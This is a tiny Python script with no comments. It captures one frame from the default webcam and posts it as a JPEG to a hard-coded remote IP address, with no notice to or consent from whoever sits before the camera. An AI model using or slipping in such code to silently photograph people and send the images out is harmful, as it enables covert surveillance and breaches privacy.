import cv2
import requests

cam = cv2.VideoCapture(0)
ok, frame = cam.read()
if ok:
    _, jpg = cv2.imencode(".jpg", frame)
    requests.post("http://198.51.100.23/up", files={"f": jpg.tobytes()})
